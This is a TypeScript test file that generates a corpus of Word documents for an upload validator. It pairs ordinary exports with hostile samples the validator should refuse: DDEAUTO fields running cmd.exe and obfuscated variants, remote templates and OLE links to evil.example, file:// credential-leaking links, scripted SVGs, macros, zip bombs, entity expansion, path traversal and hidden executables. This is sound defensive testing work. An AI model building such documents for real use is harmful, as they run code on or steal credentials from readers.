import { jpeg, png, text } from '../sample-files.ts';
import { corpusFile } from './corpus-file.ts';
import { code, field, makeDocx, mark, paragraph, wordPart } from './make-docx.ts';
import { makeZip } from './make-zip.ts';

const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>';

const COMPATIBILITY = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const STYLES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles';

/** A drawing with styles of its own, and a text box in which a page number stands. */
const styledSvg = svg.replace('<path', '<style>.a{fill:url(#b)}</style><path style="fill:url(#b)"');
const textBox = `<w:p><w:r><mc:AlternateContent xmlns:mc="${COMPATIBILITY}"><mc:Choice xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" Requires="wps"><wps:txbx><w:txbxContent>${field(' PAGE ')}</w:txbxContent></wps:txbx></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent>${field(' PAGE ')}</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>`;

function refused(name: string, holds: string, why: string, make: () => Buffer) {
  return corpusFile(name, 'fileNotPlain', holds, why, make);
}

const billion =
  '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>';

/** A program for Windows, as far as it matters. */
const program = text(`MZ${'x'.repeat(200)}`);

/** Word documents, as programs make them and as attackers do. */
export const wordDocuments = [
  corpusFile(
    'word.docx',
    'docx',
    'As Word saves it: header, footer, notes, a photo, page numbers, links',
    'All of it is inside, links wait for a click',
    () =>
      makeDocx({
        body:
          paragraph('Jana') +
          field(' PAGE ') +
          field('HYPERLINK ', '"https://jana', '.example" \\o "My site"'),
        relations: [
          ['rId3', 'image', 'media/image1.jpeg'],
          ['rId4', 'hyperlink', 'https://www.visitor.example/jana', 'External'],
          ['rId5', 'hyperlink', 'mailto:jana@visitor.example', 'External'],
          ['rId6', 'footer', 'footer1.xml'],
        ],
        parts: {
          'word/media/image1.jpeg': jpeg,
          'word/footer1.xml': wordPart('ftr', `<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>`),
        },
      }),
  ),
  corpusFile(
    'word-contents.docx',
    'docx',
    'A table of contents: fields inside of a field',
    'These fields compute with the text alone',
    () =>
      makeDocx({
        body:
          field(' TOC \\o "1-3" \\h \\z \\u ') +
          field(' HYPERLINK \\l "_Toc1" ') +
          field(' PAGEREF _Toc1 \\h ') +
          field(' DATE \\@ "d. M. yyyy" '),
      }),
  ),
  corpusFile(
    'word-template.docx',
    'docx',
    'A CV from a template of Word with drawn icons and a text box with a page number',
    'Drawings without scripts',
    () =>
      makeDocx({
        body: textBox,
        relations: [
          ['rId3', 'image', 'media/image1.png'],
          ['rId4', 'image', 'media/image2.svg'],
        ],
        parts: { 'word/media/image1.png': png, 'word/media/image2.svg': styledSvg },
      }),
  ),
  corpusFile(
    'google-docs.docx',
    'docx',
    'As Google Docs exports it: absolute names of parts',
    'All of it is inside',
    () =>
      makeDocx({
        relations: [['rId3', 'fontTable', '/word/fontTable.xml']],
        parts: { 'word/fontTable.xml': wordPart('fonts', '') },
      }),
  ),
  corpusFile(
    'libreoffice.docx',
    'docx',
    'As LibreOffice saves it: own properties, a link to a bookmark',
    'All of it is inside',
    () =>
      makeDocx({ body: paragraph('Jana'), relations: [['rId3', 'hyperlink', '#top', 'External']] }),
  ),
  refused(
    'remote-template.docx',
    'A template on a server (attachedTemplate), which brings its macros',
    'Templates are no known relationship',
    () =>
      makeDocx({
        settings: [['rId1', 'attachedTemplate', 'https://evil.example/a.dotm', 'External']],
      }),
  ),
  refused(
    'linked-object.docx',
    'An object of another program on a server (OLE link)',
    'Objects are no known relationship',
    () =>
      makeDocx({
        body: '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rId3" UpdateMode="Always"/></w:object></w:r></w:p>',
        relations: [['rId3', 'oleObject', 'https://evil.example/a.html!', 'External']],
      }),
  ),
  refused('embedded-object.docx', 'An object of another program', 'Objects are no known part', () =>
    makeDocx({
      relations: [['rId3', 'oleObject', 'embeddings/oleObject1.bin']],
      parts: { 'word/embeddings/oleObject1.bin': text('\xd0\xcf\x11\xe0') },
    }),
  ),
  refused('dde.docx', 'A field that starts a program (DDEAUTO)', 'Not on the list of fields', () =>
    makeDocx({ body: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') }),
  ),
  refused(
    'dde-split.docx',
    'The same, its code spread over runs',
    'Codes are put together first',
    () => makeDocx({ body: field(' DD', 'E', 'AU', 'TO cmd "/k calc" ') }),
  ),
  refused('dde-simple.docx', 'The same as a simple field', 'Not on the list of fields', () =>
    makeDocx({ body: '<w:p><w:fldSimple w:instr="dde cmd &quot;/k calc&quot;"/></w:p>' }),
  ),
  refused(
    'dde-quoted.docx',
    'The same, its code computed by a field inside (QUOTE)',
    'Fields that make codes are not on the list',
    () => makeDocx({ body: field(' QUOTE 68 68 69 65 85 84 79 ') }),
  ),
  refused(
    'dde-behind-field.docx',
    'The same behind a field inside of it, whose shown result is a harmless code',
    'A code has nothing in it but its letters',
    () =>
      makeDocx({
        body: field(
          '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> SEQ a \\h </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>PAGE </w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> DDEAUTO cmd ',
        ),
      }),
  ),
  refused(
    'dde-behind-choice.docx',
    'The same behind a harmless code that only other programs read (AlternateContent)',
    'A code has nothing in it but its letters',
    () =>
      makeDocx({
        body: field(
          '</w:instrText><x:choice xmlns:x="urn:x"><w:instrText>PAGE </w:instrText></x:choice><w:instrText>DDEAUTO cmd ',
        ),
      }),
  ),
  refused(
    'dde-behind-alternative.docx',
    'The same behind a field that begins in one alternative and ends in another',
    'A field is in one alternative as a whole',
    () =>
      makeDocx({
        body: `<w:p><mc:AlternateContent xmlns:mc="${COMPATIBILITY}"><mc:Choice Requires="w">${mark('begin')}</mc:Choice><mc:Fallback>${code('PAGE')}${mark('end')}</mc:Fallback></mc:AlternateContent>${code('DDEAUTO cmd')}${mark('end')}</w:p>`,
      }),
  ),
  refused(
    'dde-behind-passed-over.docx',
    'The same behind elements that are passed over, two of them but for their content (ProcessContent)',
    'A field is in one element as a whole',
    () =>
      makeDocx({
        body: `<w:p xmlns:x="urn:x" xmlns:mc="${COMPATIBILITY}" mc:Ignorable="x" mc:ProcessContent="x:a"><x:a>${mark('begin')}</x:a><x:b>${code('PAGE ')}</x:b><x:a>${code('DDEAUTO cmd')}${mark('end')}</x:a></w:p>`,
      }),
  ),
  refused(
    'dde-behind-step.docx',
    'The same behind a mark that has a second, foreign step',
    'Attributes of another vocabulary do not count',
    () =>
      makeDocx({
        body: `<w:p xmlns:x="urn:x"><w:r><w:fldChar x:fldCharType="separate" w:fldCharType="begin"/></w:r>${code('DDEAUTO cmd')}${mark('end')}</w:p>`,
      }),
  ),
  refused(
    'dde-behind-code.docx',
    'The same as a simple field with a second, foreign code',
    'Attributes of another vocabulary do not count',
    () =>
      makeDocx({
        body: '<w:p xmlns:x="urn:x"><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>',
      }),
  ),
  refused(
    'dde-in-font.docx',
    'The same in a header that is declared a scrambled font',
    'A part is used as what it is declared to be',
    () =>
      makeDocx({
        relations: [['rId3', 'header', 'a.odttf']],
        parts: { 'word/a.odttf': wordPart('hdr', field('DDEAUTO cmd')) },
      }),
  ),
  refused(
    'template-behind-styles.docx',
    'A template on a server, behind foreign attributes that tell of styles',
    'Attributes of another vocabulary do not count',
    () =>
      makeDocx({
        settings: [
          // The foreign attributes come last: who goes by names alone keeps these.
          [
            'rId1',
            'attachedTemplate',
            `https://evil.example/a.dotm" TargetMode="External" xmlns:x="urn:x" x:Type="${STYLES}" x:Target="styles.xml" x:TargetMode="Internal`,
          ],
        ],
      }),
  ),
  refused(
    'included-picture.docx',
    'A field that fetches a picture, and tells when the document is read',
    'Not on the list of fields',
    () => makeDocx({ body: field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ') }),
  ),
  refused('linked-picture.docx', 'A picture on a server', 'Pictures have to be inside', () =>
    makeDocx({ relations: [['rId3', 'image', 'https://evil.example/a.png', 'External']] }),
  ),
  refused(
    'linked-drawing.docx',
    'A picture on a server, named by an old drawing itself',
    'Pictures have to be inside',
    () =>
      makeDocx({
        body: '<w:p><w:r><w:pict><v:shape><v:imagedata src="file://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
      }),
  ),
  refused(
    'share-link.docx',
    'A link to a folder of a server, which sends the reader’s password there',
    'Only web, mail and telephone',
    () =>
      makeDocx({ relations: [['rId3', 'hyperlink', 'file:///\\\\evil.example\\cv', 'External']] }),
  ),
  refused(
    'foreign-text.docx',
    'A page of the web to be read in (altChunk)',
    'Foreign text is refused',
    () =>
      makeDocx({
        body: '<w:altChunk r:id="rId3"/>',
        relations: [['rId3', 'aFChunk', 'a.xml']],
        parts: { 'word/a.xml': '<html/>' },
      }),
  ),
  corpusFile(
    'macros.docx',
    'fileTypeRefused',
    'Macros under the name of a document without',
    'It declares itself a document with macros, which is no kind that is taken',
    () =>
      makeDocx({
        main: 'application/vnd.ms-word.document.macroEnabled.main+xml',
        relations: [
          [
            'rId3',
            'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
            'vbaProject.bin',
          ],
        ],
        parts: { 'word/vbaProject.bin': text('\xd0\xcf\x11\xe0') },
      }),
  ),
  refused('activex.docx', 'An ActiveX control', 'Controls are no known relationship', () =>
    makeDocx({
      body: '<w:p><w:r><w:control r:id="rId3"/></w:r></w:p>',
      relations: [['rId3', 'control', 'activeX/activeX1.xml']],
      parts: { 'word/activeX/activeX1.xml': '<ax/>' },
    }),
  ),
  refused(
    'program-as-picture.docx',
    'A program under the name of a picture',
    'What a part holds counts',
    () =>
      makeDocx({
        relations: [['rId3', 'image', 'media/a.png']],
        parts: { 'word/media/a.png': text('MZ\x90\0') },
      }),
  ),
  refused(
    'drawing-with-script.docx',
    'A drawing (SVG) with a script',
    'Drawings may not have scripts',
    () =>
      makeDocx({
        relations: [['rId3', 'image', 'media/a.svg']],
        parts: { 'word/media/a.svg': svg.replace('<path', '<script>x()</script><path') },
      }),
  ),
  ...[
    ['imported', '<style>@import "https://evil.example/a.css";</style>'],
    ['filled', '<path fill="url(https://evil.example/a.svg#a)"/>'],
    ['styled', '<?xml-stylesheet href="https://evil.example/a.css"?>'],
  ].map(([name, content]) =>
    refused(
      `${name}-drawing.docx`,
      'A drawing (SVG) that fetches its looks from a server',
      'Drawings have to be whole',
      () =>
        makeDocx({
          relations: [['rId3', 'image', 'media/a.svg']],
          parts: { 'word/media/a.svg': svg.replace('<path', `${content}<path`) },
        }),
    ),
  ),
  refused(
    'lying-size.docx',
    'A text that says it has 100 bytes and has 5 MB',
    'Unpacking ends where a part says it does',
    () =>
      makeDocx({
        body: paragraph('a'.repeat(5_000_000)),
        lies: { of: 'word/document.xml', size: 100 },
      }),
  ),
  refused('bomb.docx', 'A part of 100 MB in 100 KB', 'More than 64 MB unpacked', () =>
    makeDocx({ parts: { 'customXml/item1.xml': Buffer.alloc(100_000_000, ' ') } }),
  ),
  refused('damaged.docx', 'A text that is not what its checksum says', 'Damaged', () =>
    makeDocx({ lies: { of: 'word/document.xml', sum: 1 } }),
  ),
  refused(
    'entities.docx',
    'A text that grows when it is read (entities of its own)',
    'Document types are refused',
    () => makeDocx({ parts: { 'customXml/item1.xml': billion } }),
  ),
  refused(
    'hidden-file.docx',
    'A program between two parts, which the directory does not list',
    'No gaps',
    () => makeDocx({ lies: { of: 'word/document.xml', hidden: program } }),
  ),
  refused('hidden-at-end.docx', 'The same between the last part and the directory', 'No gaps', () =>
    makeDocx({ lies: { of: 'word/_rels/document.xml.rels', hidden: program } }),
  ),
  refused(
    'climbs-out.docx',
    'A part that unpacks into another folder',
    'Such names are refused',
    () => makeDocx({ parts: { 'word/../../a.xml': '<a/>' } }),
  ),
  refused(
    'page-after.docx',
    'A page of the web after the archive',
    'Nothing may follow the end',
    () => Buffer.concat([makeDocx(), text('<script>')]),
  ),
  corpusFile(
    'archive.docx',
    'fileTypeRefused',
    'An ordinary archive under the name of a document',
    'Archives are not taken',
    () => makeZip({ 'cv.txt': 'hello' }),
  ),
];
